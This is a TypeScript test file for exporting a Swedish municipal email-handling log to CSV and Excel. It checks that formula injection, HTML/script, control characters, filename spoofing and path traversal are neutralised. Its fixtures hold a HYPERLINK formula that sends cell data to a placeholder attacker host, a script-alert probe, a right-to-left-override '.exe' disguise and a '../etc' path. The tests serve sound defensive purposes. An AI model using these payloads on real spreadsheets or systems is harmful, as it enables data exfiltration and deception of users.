/**
 * The 30-day log's files read back as a reader gets them: the CSV parsed with papaparse the way a
 * semicolon-separated file opens in Swedish Excel, the workbook opened with exceljs.
 */
import { CellValue, ValueType, Workbook, Worksheet } from 'exceljs';
import { parse } from 'papaparse';
import { ILoggrad } from '../../src/domain/epostrutin';
import { BLADNAMN, byggCsv, byggXlsx, filnamn, ILoggExportTexter, LOGG_KOLUMNER, rensaText } from '../../src/data/epost/loggExport';

const texter: ILoggExportTexter = {
  upplysning: 'Det här är en hjälp. Den officiella loggen är e-postsystemets egen spårning.',
  rubriker: { datum: 'Datum', fran: 'Från', till: 'Till', amne: 'Ämne', mapp: 'Mapp', atgard: 'Åtgärd', hanterad: 'Hanterad', notering: 'Notering' },
  mappar: { inkorg: 'Inkorg', skickat: 'Skickat', borttaget: 'Borttaget' },
  atgarder: { Diarieför: 'Diarieförd', Gallra: 'Gallrad', Behåll: 'Behållen', 'Ej hanterad': 'Ej hanterad' },
  inteKlar: '{0} (inte klar)'
};
const RUBRIKER = ['Datum', 'Från', 'Till', 'Ämne', 'Mapp', 'Åtgärd', 'Hanterad', 'Notering'];

const FORMEL = '=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")';

const rader: ILoggrad[] = [
  {
    // 2026-11-11 00:30 in Sweden (winter time).
    datum: '2026-11-10T23:30:00Z', fran: 'Åsa Öberg <asa.oberg@example.se>', till: 'per.persson@pol.kramfors.se',
    amne: 'Synpunkter på översiktsplanen – Ärende 12', mapp: 'inkorg', atgard: 'Diarieför', klar: true,
    hanterad: '2026-11-11T07:05:00Z', notering: 'Gäller KS 2026/12, önskar återkoppling'
  },
  {
    // 2026-10-24 23:15 in Sweden (summer time, the evening before the clocks go back).
    datum: '2026-10-24T21:15:00Z', fran: 'okand@example.com', till: 'per.persson@pol.kramfors.se',
    amne: FORMEL, mapp: 'inkorg', atgard: 'Gallra', klar: true, hanterad: '2026-10-26T08:00:00Z'
  },
  {
    datum: '2026-10-20T10:00:00Z', fran: '+46 70 123 45 67', till: '@ordforande', amne: '-2+3', mapp: 'skickat', atgard: 'Ej hanterad', klar: false
  },
  {
    datum: '2026-10-19T10:00:00Z', fran: 'lisa@example.se', till: 'per.persson@pol.kramfors.se',
    amne: 'Möte; "budget" 2027\r\nrad två\tflik', mapp: 'borttaget', atgard: 'Diarieför', klar: false, notering: 'Privat "citat"; semikolon'
  },
  {
    datum: '2026-10-18T10:00:00Z', fran: 'x@example.se', till: 'per.persson@pol.kramfors.se',
    amne: '<b>Fet</b> &amp; <script>alert(1)</script>', mapp: 'inkorg', atgard: 'Behåll', klar: true, hanterad: '2026-10-18T12:00:00Z', notering: 'Fortfarande aktuell'
  },
  {
    datum: '2026-10-17T10:00:00Z', fran: 'styr\u0007tecken@example.se', till: 'per.persson@pol.kramfors.se',
    amne: 'Faktura\u202Efdp.exe\u0000 ok', mapp: 'inkorg', atgard: 'Ej hanterad', klar: false
  }
];

/** The CSV as a reader's program sees it: rows of cells, BOM and CRLF checked first. */
function lasCsv(csv: string): string[][] {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const utan = csv.slice(1);
  expect(utan.replace(/"[^"]*"/g, '').split('\n').every((rad, i, alla) => i === alla.length - 1 || rad.endsWith('\r'))).toBe(true);
  const resultat = parse<string[]>(utan, { delimiter: ';', newline: '\r\n' });
  expect(resultat.errors).toEqual([]);
  return resultat.data;
}

async function lasXlsx(data: Uint8Array): Promise<Worksheet> {
  const bok = new Workbook();
  await bok.xlsx.load(Buffer.from(data) as unknown as ArrayBuffer);
  expect(bok.worksheets.map((b) => b.name)).toEqual([BLADNAMN]);
  return bok.getWorksheet(BLADNAMN) as Worksheet;
}

/** A date cell's Swedish wall clock: the workbook stores the wall clock as the serial, read back as UTC fields. */
function klocka(v: CellValue): string {
  expect(v).toBeInstanceOf(Date);
  const d = new Date(Math.round((v as Date).getTime() / 1000) * 1000);
  return d.toISOString().slice(0, 16).replace('T', ' ');
}

describe('loggen som CSV', () => {
  it('börjar med upplysningen om att e-postsystemets spårning är den officiella loggen och har sedan rubrikerna', () => {
    const tabell = lasCsv(byggCsv(rader, texter));
    expect(tabell[0][0]).toBe(texter.upplysning);
    expect(tabell[0]).toHaveLength(8);
    expect(tabell[1]).toEqual(RUBRIKER);
    expect(tabell).toHaveLength(2 + rader.length);
    expect(tabell.every((rad) => rad.length === 8)).toBe(true);
  });

  it('skriver åäö, svensk tid och läsarens ord för mapp och åtgärd', () => {
    const [, , forsta, andra] = lasCsv(byggCsv(rader, texter));
    expect(forsta).toEqual([
      '2026-11-11 00:30', 'Åsa Öberg <asa.oberg@example.se>', 'per.persson@pol.kramfors.se', 'Synpunkter på översiktsplanen – Ärende 12',
      'Inkorg', 'Diarieförd', '2026-11-11 08:05', 'Gäller KS 2026/12, önskar återkoppling'
    ]);
    expect(andra[0]).toBe('2026-10-24 23:15');
    expect(andra[6]).toBe('2026-10-26 09:00');
  });

  it('gör formler från okända avsändare till text', () => {
    const tabell = lasCsv(byggCsv(rader, texter));
    expect(tabell[3][3]).toBe(`'${FORMEL}`);
    expect(tabell[4][1]).toBe("'+46 70 123 45 67");
    expect(tabell[4][2]).toBe("'@ordforande");
    expect(tabell[4][3]).toBe("'-2+3");
    expect(tabell.flat().filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });

  it('håller semikolon, citattecken och radbrytningar i ett ämne i en cell på en rad', () => {
    const rad = lasCsv(byggCsv(rader, texter))[5];
    expect(rad[3]).toBe('Möte; "budget" 2027 rad två flik');
    expect(rad[4]).toBe('Borttaget');
    expect(rad[5]).toBe('Diarieförd (inte klar)');
    expect(rad[6]).toBe('');
    expect(rad[7]).toBe('Privat "citat"; semikolon');
  });

  it('skriver text som text, utan HTML och utan styrtecken', () => {
    const tabell = lasCsv(byggCsv(rader, texter));
    expect(tabell[6][3]).toBe('<b>Fet</b> &amp; <script>alert(1)</script>');
    expect(tabell[6][5]).toBe('Behållen');
    expect(tabell[7][1]).toBe('styrtecken@example.se');
    expect(tabell[7][3]).toBe('Fakturafdp.exe ok');
    expect(tabell[7][5]).toBe('Ej hanterad');
    expect(tabell[7][6]).toBe('');
  });

  it('har upplysningen och rubrikerna också utan rader', () => {
    const csv = byggCsv([], texter);
    expect(lasCsv(csv)).toEqual([[texter.upplysning, '', '', '', '', '', '', ''], RUBRIKER]);
  });

  it('tar orden från texterna, så att en engelsk sida ger en engelsk fil', () => {
    const engelska: ILoggExportTexter = {
      upplysning: 'The mail system\'s own trace is the authoritative log.',
      rubriker: { datum: 'Date', fran: 'From', till: 'To', amne: 'Subject', mapp: 'Folder', atgard: 'Action', hanterad: 'Handled', notering: 'Note' },
      mappar: { inkorg: 'Inbox', skickat: 'Sent Items', borttaget: 'Deleted Items' },
      atgarder: { Diarieför: 'Registered', Gallra: 'Deleted', Behåll: 'Kept', 'Ej hanterad': 'Not handled' },
      inteKlar: '{0} (not finished)'
    };
    const tabell = lasCsv(byggCsv(rader, engelska));
    expect(tabell[1]).toEqual(['Date', 'From', 'To', 'Subject', 'Folder', 'Action', 'Handled', 'Note']);
    expect(tabell[2].slice(4, 6)).toEqual(['Inbox', 'Registered']);
    expect(tabell[5].slice(4, 6)).toEqual(['Deleted Items', 'Registered (not finished)']);
  });
});

describe('loggen som Excel', () => {
  it('har upplysningen sammanslagen överst och frysta feta rubriker med filter under', async () => {
    const blad = await lasXlsx(await byggXlsx(rader, texter));
    expect(blad.getCell('A1').value).toBe(texter.upplysning);
    expect(blad.getCell('H1').isMerged).toBe(true);
    expect(blad.getCell('H1').master.address).toBe('A1');
    expect((blad.getRow(2).values as CellValue[]).slice(1)).toEqual(RUBRIKER);
    expect(blad.getRow(2).getCell(1).font?.bold).toBe(true);
    expect(blad.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    expect(blad.autoFilter).toBe(`A2:H${2 + rader.length}`);
    expect(blad.columns.map((k) => k.width).every((b) => typeof b === 'number' && b >= 10)).toBe(true);
    expect(blad.rowCount).toBe(2 + rader.length);
  });

  it('har datum som riktiga Excel-datum i svensk tid', async () => {
    const blad = await lasXlsx(await byggXlsx(rader, texter));
    const datum = blad.getCell('A3');
    expect(datum.type).toBe(ValueType.Date);
    expect(datum.numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(klocka(datum.value)).toBe('2026-11-11 00:30');
    expect(klocka(blad.getCell('G3').value)).toBe('2026-11-11 08:05');
    expect(klocka(blad.getCell('A4').value)).toBe('2026-10-24 23:15');
    expect(klocka(blad.getCell('G4').value)).toBe('2026-10-26 09:00');
  });

  it('skriver åäö, läsarens ord och tomt där inget är hanterat', async () => {
    const blad = await lasXlsx(await byggXlsx(rader, texter));
    expect((blad.getRow(3).values as CellValue[]).slice(2)).toEqual([
      'Åsa Öberg <asa.oberg@example.se>', 'per.persson@pol.kramfors.se', 'Synpunkter på översiktsplanen – Ärende 12',
      'Inkorg', 'Diarieförd', expect.any(Date), 'Gäller KS 2026/12, önskar återkoppling'
    ]);
    expect(blad.getCell('F6').value).toBe('Diarieförd (inte klar)');
    expect(blad.getCell('G6').value).toBeNull();
    expect(blad.getCell('F5').value).toBe('Ej hanterad');
  });

  it('lagrar formelliknande ämnen som text, aldrig som formler', async () => {
    const blad = await lasXlsx(await byggXlsx(rader, texter));
    for (const adress of ['D4', 'B5', 'C5', 'D5']) {
      const cell = blad.getCell(adress);
      expect(cell.type).toBe(ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    expect(blad.getCell('D4').value).toBe(FORMEL);
    expect(blad.getCell('B5').value).toBe('+46 70 123 45 67');
  });

  it('skriver text som text: semikolon och citat kvar, radbrytningar och styrtecken borta, HTML oläst', async () => {
    const blad = await lasXlsx(await byggXlsx(rader, texter));
    expect(blad.getCell('D6').value).toBe('Möte; "budget" 2027 rad två flik');
    expect(blad.getCell('H6').value).toBe('Privat "citat"; semikolon');
    expect(blad.getCell('D7').value).toBe('<b>Fet</b> &amp; <script>alert(1)</script>');
    expect(blad.getCell('B8').value).toBe('styrtecken@example.se');
    expect(blad.getCell('D8').value).toBe('Fakturafdp.exe ok');
  });

  it('har upplysningen, rubrikerna och filtret också utan rader', async () => {
    const blad = await lasXlsx(await byggXlsx([], texter));
    expect(blad.getCell('A1').value).toBe(texter.upplysning);
    expect((blad.getRow(2).values as CellValue[]).slice(1)).toEqual(RUBRIKER);
    expect(blad.rowCount).toBe(2);
    expect(blad.autoFilter).toBe('A2:H2');
  });
});

describe('filnamn och textrening', () => {
  it('ger filen dagens datum och rätt ändelse', () => {
    expect(filnamn('2026-11-27', 'csv')).toBe('e-postlogg-2026-11-27.csv');
    expect(filnamn('2026-11-27', 'xlsx')).toBe('e-postlogg-2026-11-27.xlsx');
    expect(() => filnamn('2026-02-30', 'csv')).toThrow(RangeError);
    expect(() => filnamn('../etc', 'csv')).toThrow(RangeError);
  });

  it('gör om radbrytningar till mellanslag och tar bort styrtecken, riktningsbyten och ensamma surrogattecken', () => {
    expect(rensaText('  a\r\nb\u2028c\td  ')).toBe('a b c d');
    expect(rensaText('x\u0000\u001b[31my\u007f\u0085z')).toBe('x[31my z');
    expect(rensaText('abc\u202Etxt.exe\u2066')).toBe('abctxt.exe');
    expect(rensaText('ok \uD83D\uDE00 \uD83D slut \uDE00')).toBe('ok \uD83D\uDE00  slut');
    expect(rensaText(undefined)).toBe('');
    expect(rensaText(' =1+1')).toBe('=1+1');
  });

  it('kortar text som inte ryms i en Excel-cell', () => {
    const lang = rensaText('å'.repeat(40000));
    expect(lang).toHaveLength(32767);
    expect(lang.endsWith('…')).toBe(true);
  });

  it('har kolumnerna i den ordning rubrikerna står', () => {
    expect(LOGG_KOLUMNER.map((k) => texter.rubriker[k])).toEqual(RUBRIKER);
  });
});
